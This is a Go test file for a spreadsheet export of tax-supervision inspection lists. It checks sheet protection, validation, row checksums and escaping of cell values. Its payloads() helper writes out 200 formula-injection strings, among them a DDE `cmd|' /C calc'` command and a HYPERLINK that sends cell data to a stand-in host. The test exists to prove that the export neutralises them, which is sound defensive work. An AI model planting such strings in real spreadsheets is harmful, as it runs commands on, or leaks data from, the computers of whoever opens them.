package workbook_test

import (
	"archive/zip"
	"encoding/csv"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"rongxin/pipelines/contract"
	"rongxin/pipelines/workbook"
)

const listFile = "lists/市税务局/350102-鼓楼区"

// A sheet keeps all but the answers from being changed by mistake, without a
// password; answers are chosen from the result codes or filled in freely.
func TestListForm(t *testing.T) {
	f := read(t, filepath.Join(exportLists(t, open(t)), listFile+".xlsx"))
	sheet := "四类（严格监管）"
	header := rows(t, f, sheet)[0]
	answers := map[string]bool{"检查日期": true, "检查结果": true, "发现问题": true, "整改情况": true, "文书编号": true, "检查人员代码": true}
	for i, title := range header {
		cell, err := excelize.CoordinatesToCellName(i+1, 2)
		if err != nil {
			t.Fatal(err)
		}
		if got := locked(t, f, sheet, cell); got == answers[title] {
			t.Errorf("%s %s: locked %v", cell, title, got)
		}
	}
	for _, name := range []string{sheet, "一类（简化监管）", "变动", "结果代码"} {
		p, err := f.GetSheetProtection(name)
		if err != nil || !p.AutoFilter || !p.SelectUnlockedCells || p.DeleteRows || p.Password != "" {
			t.Errorf("%s: protection %+v, %v", name, p, err)
		}
	}
	rules, err := f.GetDataValidations(sheet)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, r := range rules {
		got[*r.PromptTitle] = fmt.Sprintf("%s %s %s stop=%v", r.Sqref, r.Type, r.Formula1, r.ShowErrorMessage)
	}
	want := map[string]string{
		"检查日期": "V2:V3 textLength 10 stop=true", "检查结果": "W2:W3 list 结果代码!$A$2:$A$5 stop=false",
		"发现问题": "X2:X3   stop=false", "整改情况": "Y2:Y3   stop=false", "文书编号": "Z2:Z3   stop=false", "检查人员代码": "AA2:AA3   stop=false",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	if rules, err := f.GetDataValidations("变动"); err != nil || len(rules) > 0 {
		t.Errorf("变动 asks %d times, %v", len(rules), err)
	}
	codes := [][]string{{"代码", "含义", "属于问题"}, {"1", "未发现问题", "否"}, {"6", "无法联系", "是"}, {"A", "发现问题待后续处理", "是"}, {"10", "被吊销营业执照", "否"}}
	if diff := cmp.Diff(codes, rows(t, f, "结果代码")); diff != "" {
		t.Error(diff)
	}
}

func locked(t *testing.T, f *excelize.File, sheet, cell string) bool {
	t.Helper()
	id, err := f.GetCellStyle(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	style, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	return style.Protection == nil || style.Protection.Locked
}

// Each row can be checked from its own cells, and says so when one is altered.
func TestRowCheckOfASheet(t *testing.T) {
	f := read(t, filepath.Join(exportLists(t, open(t)), listFile+".xlsx"))
	for _, sheet := range []string{"四类（严格监管）", "一类（简化监管）", "变动"} {
		all := rows(t, f, sheet)
		for _, row := range all[1:] {
			cell := map[string]string{}
			for i, title := range all[0] {
				cell[title] = row[i]
			}
			values := []string{cell["名单编号"], cell["期间"], cell["主管部门"], cell["评价方案代码"], cell["统一社会信用代码"], cell["企业名称"], cell["监管类别"]}
			if contract.RowCheck(values...) != cell["行校验码"] {
				t.Errorf("%s %s: its check does not hold", sheet, cell["统一社会信用代码"])
			}
			for i := range values {
				was := values[i]
				values[i] += "改"
				if contract.RowCheck(values...) == cell["行校验码"] {
					t.Errorf("%s %s: value %d altered is not seen", sheet, cell["统一社会信用代码"], i)
				}
				values[i] = was
			}
		}
	}
}

// The CSV file has every row with every column, marked as UTF-8, and no code
// that a spreadsheet would spoil.
func TestListCSV(t *testing.T) {
	db := open(t)
	exec(t, db, "update lists.supervision set subject_id = '913501021234567890' where subject_id = '91350102M0001A1B2C'")
	list := csvOf(t, filepath.Join(exportLists(t, db), listFile+".csv"))
	if len(list) != 5 || len(list[0]) != 40 {
		t.Fatalf("%d lines of %d columns, want 5 of 40", len(list), len(list[0]))
	}
	row := map[string]string{}
	for i, title := range list[0] {
		row[title] = list[3][i]
	}
	for title, want := range map[string]string{
		"统一社会信用代码": "※913501021234567890", "企业名称": `※=HYPERLINK("http://x","福州")`, "监管类别": "一类（简化监管）", "区划代码": "350102",
		"期间": "2026-Q2", "名单编号": "r-20260401-aa", "规则集": "rules-2026-04", "数据截止日": "2026-04-01", "公共评价批次": "2026-1",
		"每年检查上限": "1", "公布范围": "政府共享", "抽查规则": "IQ-1", "代码类型": "uscc", "评价方案": "纳税（缴费）信用",
	} {
		if row[title] != want {
			t.Errorf("%s: %q, want %q", title, row[title], want)
		}
	}
}

func csvOf(t *testing.T, file string) [][]string {
	t.Helper()
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	text, ok := strings.CutPrefix(string(data), "\ufeff")
	if !ok {
		t.Errorf("%s has no byte order mark", file)
	}
	list, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return list
}

func TestGuarded(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{"91350100M000100Y43", "91350100M000100Y43"}, {"350102", "350102"}, {"2026-04-01", "2026-04-01"}, {"5%", "5%"}, {"", ""},
		{"913501001234567890", "※913501001234567890"}, {"0591", "※0591"}, {"12345678e9012345", "※12345678e9012345"},
		{"1.5E3", "※1.5E3"}, {" 001 ", "※ 001 "}, {"=1", "※=1"}, {"1234567890abcde1", "1234567890abcde1"},
	} {
		got := workbook.Guarded(tt.text)
		if got != tt.want {
			t.Errorf("Guarded(%q) = %q, want %q", tt.text, got, tt.want)
		}
		if back := workbook.Plain(got); back != tt.text {
			t.Errorf("%q came back as %q", tt.text, back)
		}
	}
}

// payloads are two hundred names that would run if a spreadsheet took them for
// formulas: what may stand in front, times what follows.
func payloads() []string {
	var list []string
	for _, front := range []string{"", " ", "\t", "\r\n", "\u3000", "\u00a0", "\ufeff", "  \u3000", "\n", "\r"} {
		for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "=+", "@="} {
			for _, body := range []string{`cmd|' /C calc'!A0`, `HYPERLINK("http://x?"&A1,"福州")`} {
				list = append(list, front+sign+body)
			}
		}
	}
	return list
}

// No name becomes a formula, in the workbook or in the CSV file opened as one.
func TestNoFormulas(t *testing.T) {
	db := open(t)
	list := payloads()
	if len(list) != 200 {
		t.Fatalf("%d payloads, want 200", len(list))
	}
	for i, name := range list {
		exec(t, db, fmt.Sprintf(`insert into lists.supervision by name select * replace ('%s' as subject_name, 'P%03d' as subject_id, '%s' as reason_1, '%s' as industry_name)
			from lists.supervision where subject_id = '91350102M0001A1B2D'`, quoted(name), i, quoted(name), quoted(name)))
	}
	dir := exportLists(t, db)
	archive, err := zip.OpenReader(filepath.Join(dir, listFile+".xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer archive.Close()
	for _, part := range archive.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(text), "<f>") || strings.Contains(string(text), "<f ") {
			t.Errorf("%s holds a formula", part.Name)
		}
	}
	sheet := rows(t, read(t, filepath.Join(dir, listFile+".xlsx")), "四类（严格监管）")
	for _, lines := range [][][]string{sheet, csvOf(t, filepath.Join(dir, listFile+".csv"))} {
		found := 0
		for _, line := range lines[1:] {
			for _, cell := range line {
				if strings.ContainsAny(first(cell), "=+-@＝＋－＠\t\r\n") {
					t.Errorf("%q is live", cell)
				}
			}
			if strings.HasPrefix(line[0], "P") && strings.HasPrefix(line[1], "※") {
				found++
			}
		}
		if found != len(list) {
			t.Errorf("%d of %d payloads are there, guarded", found, len(list))
		}
	}
}

// first is the first sign that is not a space.
func first(cell string) string {
	cell = strings.TrimLeft(cell, " \u00a0\u3000\ufeff")
	for _, r := range cell {
		return string(r)
	}
	return ""
}

func quoted(s string) string { return strings.ReplaceAll(s, "'", "''") }
